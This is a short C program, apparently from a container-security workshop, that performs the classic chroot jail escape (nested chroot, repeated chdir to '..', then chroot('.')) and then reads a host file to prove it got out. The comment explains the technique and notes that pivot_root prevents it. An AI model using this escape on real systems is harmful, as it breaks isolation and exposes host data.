/*
 * breakout: the classic escape from a chroot(2) jail, for workshop level 03.
 *
 * chroot() changes what "/" means for path lookups; it does not move the
 * current directory. So a root process inside a chroot can chroot() again
 * into a subdirectory while its cwd stays where it was: now the cwd is
 * *outside* its root, and ".." is never clamped at a root it never passes.
 * Walk up to the real root, chroot(".") there, and the jail is gone.
 *
 * After pivot_root(2) and a detach of the old root there is nothing above
 * the container's root in its mount namespace: the walk ends there.
 *
 * Usage: breakout PATH  -- tries to escape, then to read PATH (a file the
 * checker made on the host). Exit 0 and "ESCAPED" if it could; exit 1 and
 * "contained" if not.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *proof = argc > 1 ? argv[1] : "/etc/hostname";
    mkdir(".breakout", 0700);                 /* may exist: fine */
    if (chroot(".breakout") != 0) {           /* cwd now lies outside the root */
        printf("contained: chroot(.breakout): %s\n", strerror(errno));
        return 1;
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;          /* climb past where "/" was */
    }
    if (chroot(".") != 0) {                   /* make the real root ours */
        printf("contained: chroot(.): %s\n", strerror(errno));
        return 1;
    }
    FILE *f = fopen(proof, "r");
    if (f == NULL) {
        printf("contained: %s is not reachable (%s)\n", proof, strerror(errno));
        return 1;
    }
    char line[256] = "";
    if (fgets(line, sizeof line, f) == NULL) line[0] = '\0';
    fclose(f);
    printf("ESCAPED: read the host's %s: %s", proof, line);
    return 0;
}
